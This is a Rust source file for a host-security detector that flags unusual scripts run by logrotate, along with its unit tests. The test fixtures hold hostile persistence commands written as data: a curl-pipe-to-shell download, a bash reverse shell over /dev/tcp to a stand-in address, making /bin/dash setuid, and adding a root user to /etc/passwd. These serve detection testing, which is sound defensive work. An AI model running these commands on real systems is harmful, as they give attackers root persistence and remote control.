//! Detector: a script that the rotation of logs runs and that does something odd.

use crate::weigh;
use crate::{Card, Detector, Draft, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "log-rotation",
        doc: "A script or program that logrotate runs does what ordinary ones do not.",
        mechanisms: &[48],
        attack: &["T1546", "T1053"],
        why: "It runs as root by itself, usually once a day, and looks like housekeeping.",
        innocent: "you or a program you installed by hand made this script",
        next: "read the setting and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::startup_commands(tables, &["logrotate script"], "The rotation of logs", drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn debian() -> Mem {
        Mem::new()
            .file("/var/lib/dpkg/info/logrotate.list", "/.\n/etc/logrotate.conf\n/etc/logrotate.d/nginx\n/usr/lib/rsyslog/rsyslog-rotate\n")
            .file("/etc/logrotate.conf", "weekly\nrotate 4\ncreate\ninclude /etc/logrotate.d\n")
            .file("/etc/logrotate.d/nginx", "/var/log/nginx/*.log {\n\tdaily\n\tsharedscripts\n\tprerotate\n\t\tif [ -d /etc/logrotate.d/httpd-prerotate ]; then \\\n\t\t\trun-parts /etc/logrotate.d/httpd-prerotate; \\\n\t\tfi \\\n\tendscript\n\tpostrotate\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\tendscript\n}\n")
    }

    #[test]
    fn odd_scripts_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/logrotate.d/dpkg2", "/var/log/x.log {\n postrotate\n  /var/tmp/.r\n endscript\n}\n"),
            (
                "/etc/logrotate.d/nginx",
                "/var/log/nginx/*.log {\n\tpostrotate\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\t\tcurl -s http://192.0.2.1/a | sh\n\tendscript\n}\n",
            ),
            (
                "/etc/logrotate.d/a",
                "/var/log/a {\n firstaction\n bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\n endscript\n}\n",
            ),
            ("/etc/logrotate.d/b", "compresscmd /dev/shm/gz\ncompress\n"),
            ("/etc/logrotate.conf", "include /opt/rotate\nlastaction\nchmod u+s /bin/dash\nendscript\n"),
            (
                "/etc/logrotate.d/c",
                "/var/log/c {\n preremove\n echo 'x:0:0::/:/bin/sh' >> /etc/passwd\n endscript\n}\n",
            ),
        ] {
            let seen = check(debian().file(path, text));
            let found = seen.alarms("log-rotation");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
        let included = debian()
            .file("/etc/logrotate.conf", "include /opt/rotate\n")
            .file("/opt/rotate/z", "/z {\nprerotate\n/tmp/z\nendscript\n}\n");
        assert_eq!(check(included).alarms("log-rotation").len(), 1);
    }

    #[test]
    fn packages_and_administrators_scripts_are_no_alarm() {
        let seen = check(
            debian()
                .file("/etc/logrotate.d/app", "/var/log/app/*.log {\n weekly\n compress\n compresscmd /usr/bin/zstd\n postrotate\n  systemctl kill -s HUP app.service\n  [ -f /run/app.pid ] && kill -USR1 `cat /run/app.pid`\n endscript\n}\n")
                .file("/etc/logrotate.d/clamav-daemon", "/var/log/clamav/clamav.log {\n postrotate\n  systemctl -q is-active clamav-daemon && systemctl kill --signal=SIGHUP clamav-daemon || true\n  kill -s USR1 rsyslogd\n endscript\n}\n")
                .file("/etc/logrotate.d/old.dpkg-old", "/x {\npostrotate\n/tmp/x\nendscript\n}\n"),
        );
        assert!(seen.by("log-rotation").is_empty(), "{:#?}", seen.findings);
    }
}
